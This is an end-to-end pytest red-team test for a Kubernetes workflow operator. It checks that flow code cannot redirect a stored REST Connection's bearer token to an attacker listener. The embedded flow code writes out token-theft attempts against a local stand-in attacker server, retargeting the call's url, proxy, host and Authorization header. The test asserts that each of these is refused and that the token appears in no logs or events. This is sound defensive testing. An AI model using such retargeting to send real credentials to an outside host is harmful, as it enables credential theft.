"""Red team: flow code tries to send a Connection's credentials to itself (issue 13, item 1).

The attacker may only write flow code. The namespace's admin stored a REST Connection with a
bearer token in a Secret. The flow, running in its runner Pod with the runner's identity, calls
``this.connect('api', url=<attacker>)`` and ``this.connect('api', proxy=<attacker>)`` (and the
host-part spelling of the same retarget). Each call must fail with reason ``OverrideRefused``
naming the refused input, the attacker's listener must never get a request (so never the
token), the token must show nowhere the flow or a user can read, and a legitimate call that
only gives ``path=`` must still work. A Connection that lists ``url`` in
``spec.allowedOverrides`` lets a call change it (its author's decision).

Both HTTP servers run in this test process on the address the dev cluster's Pods reach
(``cluster_host()``), so they are reachable whether the connection executor runs on this
machine or as a Pod.
"""

from __future__ import annotations

import json
import textwrap
import uuid
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import urlsplit

import pytest
from tests.local_servers import HttpServer, Seen, cluster_host

pytestmark = pytest.mark.e2e

API = "kumulus.dev/v1alpha1"
TERMINAL = ("Succeeded", "Failed", "Cancelled")


@pytest.fixture(autouse=True)
def _operator_running(operator: Any) -> None:
    """Every test here needs the operator (fixture from tests/e2e/conftest.py)."""


@pytest.fixture(scope="module")
def api_server() -> Iterator[HttpServer]:
    """The system the Connection is meant for."""
    server = HttpServer(cluster_host()).start()
    yield server
    server.stop()


@pytest.fixture(scope="module")
def attacker() -> Iterator[HttpServer]:
    """The listener the flow author controls: it records every request it gets."""
    server = HttpServer(cluster_host()).start()
    yield server
    server.stop()


FLOW = textwrap.dedent(
    """
    import flow_api

    def attempt(this, system, connection, **inputs):
        child = this.connect(connection, wait=system.return_when.ALL_ENDED, **inputs)
        return {'status': child.get('status'), 'message': child.get('status_message')}

    def handler(system, this):
        results = {
            'url': attempt(this, system, 'api', url=ATTACKER + '/steal'),
            'proxy': attempt(this, system, 'api', proxy=ATTACKER, path='/via-proxy'),
            'host': attempt(
                this, system, 'api', scheme='http', host=ATTACKER_HOST, port=ATTACKER_PORT,
                path='/steal-by-host',
            ),
            'auth_header': attempt(
                this, system, 'api', path='/own-auth', headers={'Authorization': 'Bearer mine'}
            ),
        }
        legit = this.connect('api', path='/legit', query={'n': '1'}).get('output_value')
        widened = this.connect('api-wide', url=API_URL + '/widened').get('output_value')
        this.save(output_value={
            'attempts': results,
            'legit': legit['json'],
            'widened': widened['json'],
        })
        return this.success('done')
    """
)


def test_a_flow_cannot_send_a_connections_token_elsewhere(
    api_server: HttpServer,
    attacker: HttpServer,
    apply: Callable[..., None],
    kubectl: Any,
    wait_phase: Callable[..., dict[str, Any]],
    namespace: str,
) -> None:
    token = f"tok-{uuid.uuid4().hex}"
    target = urlsplit(attacker.url)
    code = "\n".join(
        [
            f"ATTACKER = {attacker.url!r}",
            f"ATTACKER_HOST = {target.hostname!r}",
            f"ATTACKER_PORT = {target.port!r}",
            f"API_URL = {api_server.url!r}",
            FLOW,
        ]
    )
    apply(
        [
            {
                "apiVersion": "v1",
                "kind": "Secret",
                "metadata": {"name": "api-token"},
                "stringData": {"bearer_token": token},
            },
            {
                "apiVersion": API,
                "kind": "Connection",
                "metadata": {"name": "api"},
                "spec": {
                    "type": "REST",
                    "values": {"url": api_server.url},
                    "secretRef": {"name": "api-token"},
                },
            },
            {
                "apiVersion": API,
                "kind": "Connection",
                "metadata": {"name": "api-wide"},
                "spec": {
                    "type": "REST",
                    "values": {"url": f"{api_server.url}/stored"},
                    "secretRef": {"name": "api-token"},
                    "allowedOverrides": ["url"],
                },
            },
            {
                "apiVersion": API,
                "kind": "Flow",
                "metadata": {"name": "thief"},
                "spec": {"code": code},
            },
            {
                "apiVersion": API,
                "kind": "Execution",
                "metadata": {"name": "steal"},
                "spec": {"type": "FLOW", "flowRef": {"name": "thief"}},
            },
        ],
        namespace,
    )
    status = wait_phase("steal", namespace, TERMINAL, timeout=180)["status"]
    assert status["phase"] == "Succeeded", status
    out = status["outputs"]

    # Every retarget failed with the refusal, naming what was refused.
    attempts = out["attempts"]
    refused_names = {
        "url": "input url:",
        "proxy": "input proxy:",
        "host": "inputs host, port, scheme:",
        "auth_header": "input headers.Authorization:",
    }
    for attempt, names in refused_names.items():
        result = attempts[attempt]
        assert result["status"] == "ENDED_ERROR", (attempt, result)
        assert f"Connection api refused the per-call {names}" in result["message"], result
        assert "spec.allowedOverrides" in result["message"]

    executions = json.loads(kubectl("get", "executions", "-n", namespace, "-o", "json").stdout)
    calls = [e for e in executions["items"] if e["spec"]["type"] == "CONNECTION"]
    reasons = sorted(
        next(c["reason"] for c in e["status"]["conditions"] if c["type"] == "Finished")
        for e in calls
    )
    assert reasons == ["OverrideRefused"] * 4 + ["Succeeded"] * 2
    # Refused calls were never claimed: no connector ran for them.
    refused_calls = [e for e in calls if e["status"]["phase"] == "Failed"]
    assert all("executor" not in e["status"] for e in refused_calls)

    # The attacker's listener never got a request, so it never saw the token.
    assert attacker.requests == []
    assert not [r for r in api_server.requests if r.authorization and "steal" in r.path]

    # The legitimate call reached the stored URL with the stored token; the echo is scrubbed.
    assert out["legit"]["path"] == "/legit"
    assert out["legit"]["authorization"] == "Bearer ***"
    assert Seen("GET", "/legit", "n=1", f"Bearer {token}") in api_server.requests
    # allowedOverrides: url listed, so the call chose its URL (here still the real server).
    assert out["widened"]["path"] == "/widened"
    assert Seen("GET", "/widened", "", f"Bearer {token}") in api_server.requests

    # The token shows nowhere the flow or a user of the namespace can read.
    pod = status["podName"]
    seen = {
        "executions": json.dumps(executions),
        "connections": kubectl("get", "connections", "-n", namespace, "-o", "json").stdout,
        "events": kubectl("get", "events", "-n", namespace, "-o", "json").stdout,
        "logs": kubectl("logs", pod, "-n", namespace).stdout,
    }
    for where, text in seen.items():
        assert token not in text, f"the token leaked into {where}"
        assert token[::-1] not in text, f"the reversed token leaked into {where}"
